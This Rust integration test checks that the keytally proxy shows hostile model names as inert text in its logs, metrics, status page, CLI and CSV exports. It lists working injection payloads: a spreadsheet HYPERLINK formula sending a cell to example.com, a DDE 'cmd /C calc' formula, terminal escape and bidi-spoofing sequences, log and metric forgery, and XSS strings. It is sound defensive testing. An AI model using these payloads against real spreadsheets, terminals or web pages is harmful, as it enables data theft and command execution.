//! Names that an application or a provider makes up, in everything that shows names. Nothing of it is obeyed: not by a
//! terminal, a browser, a spreadsheet, a scraper or whoever reads a log line by line.

use std::process::{Command, Stdio};
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use keytally::demo::simulator::{Answer, Received, Simulator};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{Sidecar, get, post_json, send};

const KEY: &str = "sk-made-up-key-of-a-hostile-application";
const CHAT: &str = "/openai/v1/chat/completions";

/// Each is a model name.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"invoice\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[1;1Hok",
    "c1\u{9b}2J\u{9d}0;owned\u{9c}",
    "turned\u{202e}gnp.exe\u{200b}\u{2066}",
    "two\r\nlines\n{\"level\":\"ERROR\",\"message\":\"forged\"}\u{2028}and\u{85}more",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>",
    "m\"} 1\nkeytally_forged_total{x=\"1",
    "|`*_[click](http://example.com)|\\",
    "\u{0}\u{8}\u{7f}\u{c}",
];

/// The same words wherever a provider can put them, and 200 for every other call.
fn provider(received: Received) -> Answer {
    let asked: Value = serde_json::from_slice(&received.body).unwrap_or_default();
    let model = asked["model"].as_str().unwrap_or("none").to_owned();
    if asked["fail"] == true {
        let error =
            json!({ "error": { "type": model, "code": model, "status": model, "message": model, "param": model } });
        return Answer::new(400, "application/json", error.to_string());
    }
    let answer = json!({
        "id": model, "model": model, "object": model, "service_tier": model, "system_fingerprint": model,
        "choices": [{ "index": 0, "finish_reason": model, "message": { "role": model, "content": model } }],
        "usage": { "prompt_tokens": 7, "completion_tokens": 3, "total_tokens": 10 },
    });
    Answer::new(200, "application/json", answer.to_string())
}

/// What a terminal obeys, or what makes a text look like another one.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[track_caller]
fn assert_plain(sink: &str, text: &str) {
    assert!(text.len() > 20, "{sink} is empty: {text:?}");
    let hidden = text.char_indices().find(|(_, c)| *c != '\n' && is_hidden(*c));
    if let Some((at, c)) = hidden {
        let start = text[..at].char_indices().rev().nth(80).map_or(0, |(start, _)| start);
        panic!("{sink} holds {c:?} after {:?}", &text[start..at]);
    }
}

/// Every text in it, decoded: whoever prints a field prints this.
#[track_caller]
fn assert_plain_values(sink: &str, value: &Value) {
    match value {
        Value::String(text) => assert!(!text.contains(is_hidden), "{sink}: {text:?}"),
        Value::Array(items) => items.iter().for_each(|item| assert_plain_values(sink, item)),
        Value::Object(fields) => fields.iter().for_each(|(name, value)| {
            assert!(!name.contains(is_hidden), "{sink}: {name:?}");
            assert_plain_values(sink, value);
        }),
        _ => {}
    }
}

fn keytally(args: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_keytally"))
        .args(args)
        .env_remove("KEYTALLY_CONFIG")
        .env_remove("KEYTALLY_LEDGER")
        .stdin(Stdio::null())
        .output()
        .expect("it runs");
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("UTF-8")
}

/// Requests that are no calls of anybody's, with hostile targets.
async fn odd_requests(sidecar: &Sidecar) {
    let heads: [&[u8]; 4] = [
        b"GET /open\xc2\x9b2Jai/\x7f?key=a HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        b"GET http://\xc2\x9b2J.example/ HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        b"CONNECT a%1b%5b2J.example:443 HTTP/1.1\r\nhost: x\r\n\r\n",
        b"GET /openai/v1/models/\xc2\x9b2J\xe2\x80\xae HTTP/1.1\r\nhost: x\r\nauthorization: Bearer sk-made-up-odd-request\r\nuser-agent: \xc2\x9b2J\r\nconnection: close\r\n\r\n",
    ];
    for head in heads {
        let mut stream = TcpStream::connect(sidecar.proxy).await.expect("connect");
        stream.write_all(head).await.expect("sent");
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut answer)).await;
    }
}

async fn hostile(format: &str) {
    let provider = Simulator::start(provider).await.expect("it starts");
    let dir = tempfile::tempdir().expect("temporary directory");
    let ledger = dir.path().join("ledger.db");
    let config = format!(
        "providers: {{ openai: {{ base_url: \"http://{}\" }} }}\nledger: {{ path: \"{}\" }}\nlog: {{ format: {format} }}\n\
         metrics: {{ birth_hold: 0s }}",
        provider.address(),
        ledger.display()
    );
    let mut sidecar = Sidecar::start_with(&config, |command| {
        command.env("RUST_LOG", "trace").env("NO_COLOR", "1");
    });
    for model in HOSTILE {
        for fail in [false, true] {
            let body = json!({ "model": model, "service_tier": model, "reasoning_effort": model, "fail": fail });
            post_json(sidecar.proxy, CHAT, KEY, body.to_string()).await;
        }
    }
    odd_requests(&sidecar).await;
    let records = sidecar.wait_for_records(2 * HOSTILE.len() + 1).await;

    for record in &records {
        assert_plain_values("the call log", record);
    }
    let text = std::fs::read_to_string(sidecar.dir().join("calls.jsonl")).expect("the call log");
    assert_plain("the call log", &text);
    let shown =
        records.iter().filter(|record| record["request_model"].as_str().is_some_and(|model| model.contains('?')));
    assert!(shown.count() >= 8, "the hostile names are there, with marks in the place of what was hidden");

    let metrics = get(sidecar.admin, "/metrics").await.body;
    let metrics = std::str::from_utf8(&metrics).expect("UTF-8");
    assert_plain("metrics", metrics);
    assert!(metrics.contains("hyperlink("), "the names of models are labels");
    for line in metrics.lines() {
        let own = ["# ", "keytally_", "process_"].iter().any(|start| line.starts_with(start));
        assert!(own && !line.starts_with("keytally_forged"), "a forged line: {line}");
    }
    for page in ["/status", "/status/live"] {
        assert_plain_values(page, &get(sidecar.admin, page).await.json());
    }
    let asked = "/?model=%3Cscript%3Ealert(1)%3C/script%3E&key=%22onload=%22alert(1)";
    let request = Request::get(asked).header("accept", "text/html").body(Full::<Bytes>::default()).expect("request");
    let page = send(sidecar.admin, request).await;
    let page = std::str::from_utf8(&page.body).expect("UTF-8");
    assert_plain("the status page", page);
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the name is shown, as text");
    assert!(!page.contains("<script>alert") && !page.contains("<img") && !page.contains("\"onload"), "{page}");

    let top = keytally(&["top", "--once", "--admin", &sidecar.admin.to_string()]);
    assert_plain("top", &top);
    assert!(sidecar.stop().success());
    assert_plain("the log", &sidecar.log());
    for line in sidecar.log().lines().filter(|_| format == "json") {
        let line: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert_ne!(line["message"], "forged");
    }
    what_the_ledger_shows(ledger.to_str().expect("UTF-8"));
}

fn what_the_ledger_shows(ledger: &str) {
    let asked: &[&[&str]] = &[
        &["log", "--limit", "0"],
        &["log", "--limit", "0", "--format", "json"],
        &["usage", "--by", "model,client,outcome"],
        &["usage", "--by", "model", "--format", "json"],
        &["statement"],
        &["prices", "--like-last", "1h"],
    ];
    for args in asked {
        assert_plain(&args.join(" "), &keytally(&[args, &["--ledger", ledger][..]].concat()));
    }
    let calls = keytally(&["log", "--limit", "0", "--format", "json", "--ledger", ledger]);
    for call in calls.lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON")) {
        let id = call["call_id"].as_str().expect("an id");
        assert_plain("one call", &keytally(&["log", id, "--ledger", ledger]));
    }
    let sheet = keytally(&["usage", "--by", "model", "--format", "csv", "--ledger", ledger]);
    assert_plain("the sheet", &sheet);
    let mut rows = csv::Reader::from_reader(sheet.as_bytes());
    let mut quoted = 0;
    for row in rows.records() {
        for cell in &row.expect("CSV") {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!formula, "a spreadsheet would run {cell:?}");
            quoted += usize::from(cell.starts_with("'=") || cell.starts_with("'@"));
        }
    }
    assert_eq!(quoted, 4, "two names, each as it was asked for and as the label that an answer confirmed: {sheet}");
}

#[tokio::test(flavor = "multi_thread")]
async fn are_shown_and_not_obeyed_with_logs_for_people() {
    hostile("text").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn are_shown_and_not_obeyed_with_logs_for_programs() {
    hostile("json").await;
}

/// What a person pastes, and what a provider answers to a trial call.
#[tokio::test(flavor = "multi_thread")]
async fn are_not_obeyed_by_explain_and_doctor() {
    let error = json!({ "error": { "message": "\u{1b}[2J\u{9b}2J\u{202e}x", "type": "\u{9b}2J", "code": "invalid_api_key\u{9b}2J" } });
    let error = error.to_string();
    let script = error.clone();
    let provider = Simulator::start(move |_| {
        let answer = Answer::new(401, "application/json", script.clone());
        answer.header("server", "made-up").header("x-request-id", "req-1")
    });
    let provider = provider.await.expect("it starts");
    let dir = tempfile::tempdir().expect("temporary directory");
    let (file, config) = (dir.path().join("error.txt"), dir.path().join("keytally.yaml"));
    std::fs::write(&file, format!("HTTP/1.1 401 \u{9b}2J\r\nx-odd: \u{9b}2J\r\n\r\n{error}\u{9b}2J")).expect("written");
    let upstream = format!("providers: {{ openai: {{ base_url: \"http://{}\" }} }}", provider.address());
    std::fs::write(&config, upstream).expect("written");
    let (file, config) = (file.to_str().expect("UTF-8"), config.to_str().expect("UTF-8"));
    for format in ["text", "json"] {
        let explain = Command::new(env!("CARGO_BIN_EXE_keytally"))
            .args(["explain", "--provider", "openai", "--format", format, "--config", config, file])
            .output()
            .expect("it runs");
        assert_plain("explain", &String::from_utf8(explain.stdout).expect("UTF-8"));
        let doctor = Command::new(env!("CARGO_BIN_EXE_keytally"))
            .args(["doctor", "--live", "--provider", "openai", "--config", config])
            .args((format == "json").then_some("--json"))
            .env("OPENAI_API_KEY", KEY)
            .env_remove("HTTPS_PROXY")
            .output()
            .expect("it runs");
        let said = String::from_utf8(doctor.stdout).expect("UTF-8");
        assert_plain("doctor", &said);
        assert!(said.contains("auth_invalid"), "{said}{}", String::from_utf8_lossy(&doctor.stderr));
    }
}
